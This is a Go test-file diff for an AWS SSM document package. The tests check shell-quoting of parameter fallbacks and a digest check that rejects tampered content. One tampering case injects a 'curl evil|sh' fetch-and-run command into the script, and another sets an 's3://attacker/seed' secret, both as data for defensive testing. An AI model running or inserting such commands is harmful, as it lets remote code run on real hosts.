@@ -2,8 +2,11 @@ package document
 
 import (
 	"encoding/json"
+	"errors"
 	"flag"
+	"fmt"
 	"io"
+	"os/exec"
 	"regexp"
 	"strings"
 	"testing"
@@ -108,21 +111,119 @@ func TestDefaultsAreValid(t *testing.T) {
 	}
 }
 
-// TestScriptReadsOnlyEnvironment: no parameter is ever substituted into shell text.
+// TestScriptReadsOnlyEnvironment: parameters reach the agent only as SSM_<name>
+// variables; the only {{name}} in the text is each variable's fallback for agents older
+// than 3.3.2746.0, assigned only when the variable is unset.
 func TestScriptReadsOnlyEnvironment(t *testing.T) {
 	script := strings.Join(Script(artifacts), "\n")
-	if strings.Contains(script, "{{") {
-		t.Errorf("the script substitutes a parameter as text:\n%s", script)
-	}
 	for _, p := range contract.DocumentParameters {
 		if !strings.Contains(script, `--`+p.Flag+`="$SSM_`+p.Name+`"`) {
 			t.Errorf("the script does not pass $SSM_%s quoted to --%s", p.Name, p.Flag)
 		}
+		fallback := `if [ -z "${SSM_` + p.Name + `+x}" ]; then export SSM_` + p.Name + `="{{` + p.Name + `}}"; fi`
+		if strings.Count(script, "{{"+p.Name+"}}") != 1 || !strings.Contains(script, fallback) {
+			t.Errorf("%s: want exactly the fallback %q", p.Name, fallback)
+		}
+	}
+	if n := strings.Count(script, "{{"); n != len(contract.DocumentParameters) {
+		t.Errorf("%d {{ in the script, want one per parameter", n)
 	}
 	for _, a := range artifacts {
 		if !strings.Contains(script, a.SHA256) {
 			t.Errorf("the script does not check the %s digest", a.Arch)
 		}
+	}
+}
+
+// oldAgent renders the script as an SSM Agent before 3.3.2746.0 would run it: no SSM_
+// variables, {{name}} replaced by the value.
+func oldAgent(script string, values map[string]string) string {
+	for k, v := range values {
+		script = strings.ReplaceAll(script, "{{"+k+"}}", v)
+	}
+	return script
+}
+
+// TestFallbackIsOneWord runs each parameter's fallback under sh, as an old agent would
+// render it, with values that pass the parameter's allowedPattern but hold every
+// character that is special in shell: each arrives in its variable as exactly the
+// value, and none ends the double-quoted word. Then it checks that no pattern lets
+// through a character that could (" $ ` \ newline).
+func TestFallbackIsOneWord(t *testing.T) {
+	worst := map[string]string{
+		"KeySource": "s3-kms", "KmsKeyId": "alias/a_b-c/d", "Secret": "s3://b.b-b/!'()*_.-x", "MountPoint": "/mnt/a-b_c.d",
+		"Filesystem": "xfs", "Model": "Amazon EC2 NVMe Instance Storage", "Devices": "/dev/nvme1n1,/dev/nvme2n1", "Discard": "false", "Wipe": "true",
+	}
+	var probe strings.Builder
+	for _, line := range fallbacks() {
+		probe.WriteString(line + "\n")
+	}
+	for _, p := range contract.DocumentParameters {
+		v := worst[p.Name]
+		if !regexp.MustCompile(p.Pattern).MatchString(v) {
+			t.Fatalf("%s: the test value %q fails the pattern", p.Name, v)
+		}
+		fmt.Fprintf(&probe, "printf '%%s\\0' \"$SSM_%s\"\n", p.Name)
+	}
+	out, err := exec.Command("sh", "-c", oldAgent(probe.String(), worst)).Output()
+	if err != nil {
+		t.Fatalf("sh: %v", err)
+	}
+	got := strings.Split(strings.TrimSuffix(string(out), "\x00"), "\x00")
+	for i, p := range contract.DocumentParameters {
+		if i >= len(got) || got[i] != worst[p.Name] {
+			t.Errorf("%s arrived as %q, want %q", p.Name, got, worst[p.Name])
+		}
+	}
+	for _, p := range contract.DocumentParameters {
+		re := regexp.MustCompile(p.Pattern)
+		v := worst[p.Name]
+		for _, bad := range []string{`"`, "$", "`", `\`, "\n"} {
+			for i := 0; i <= len(v); i++ {
+				if s := v[:i] + bad + v[i:]; re.MatchString(s) {
+					t.Errorf("%s: allowedPattern accepts %q, which could break out of the fallback's quotes", p.Name, s)
+				}
+			}
+		}
+	}
+}
+
+func TestDigest(t *testing.T) {
+	content := Content(defaults(), artifacts)
+	want, err := Digest(content)
+	if err != nil {
+		t.Fatal(err)
+	}
+	deployed, err := json.Marshal(content) // as SSM returns it
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := Verify(string(deployed), want, defaults().KMSKeyID, ""); err != nil {
+		t.Fatalf("the deployed content: %v", err)
+	}
+	// The values CloudFormation fills in at deploy time do not change the digest.
+	other := []Artifact{{Arch: "amd64", URL: "https://other/amd", SHA256: artifacts[1].SHA256}, {Arch: "arm64", URL: "https://other/arm", SHA256: artifacts[0].SHA256}}
+	if got, _ := Digest(Content(defaults(), other)); got != want {
+		t.Errorf("the asset URLs changed the digest")
+	}
+	for _, tc := range []struct {
+		name   string
+		edit   func(c string) string
+		keyID  string
+		secret string
+	}{
+		{"another script", func(c string) string { return strings.Replace(c, "set -eu", "set -eu; curl evil|sh", 1) }, defaults().KMSKeyID, ""},
+		{"another agent digest", func(c string) string { return strings.ReplaceAll(c, artifacts[1].SHA256, strings.Repeat("c", 64)) }, defaults().KMSKeyID, ""},
+		{"a looser pattern", func(c string) string { return strings.Replace(c, `^(true|false)$`, `.*`, 1) }, defaults().KMSKeyID, ""},
+		{"another default key", func(c string) string { return c }, "arn:aws:kms:us-east-1:444455556666:key/x", ""},
+		{"a default secret", func(c string) string { return c }, defaults().KMSKeyID, "s3://attacker/seed"},
+		{"not JSON", func(string) string { return "{" }, defaults().KMSKeyID, ""},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			if err := Verify(tc.edit(string(deployed)), want, tc.keyID, tc.secret); !errors.Is(err, ErrUntrusted) {
+				t.Errorf("got %v, want ErrUntrusted", err)
+			}
+		})
 	}
 }
 
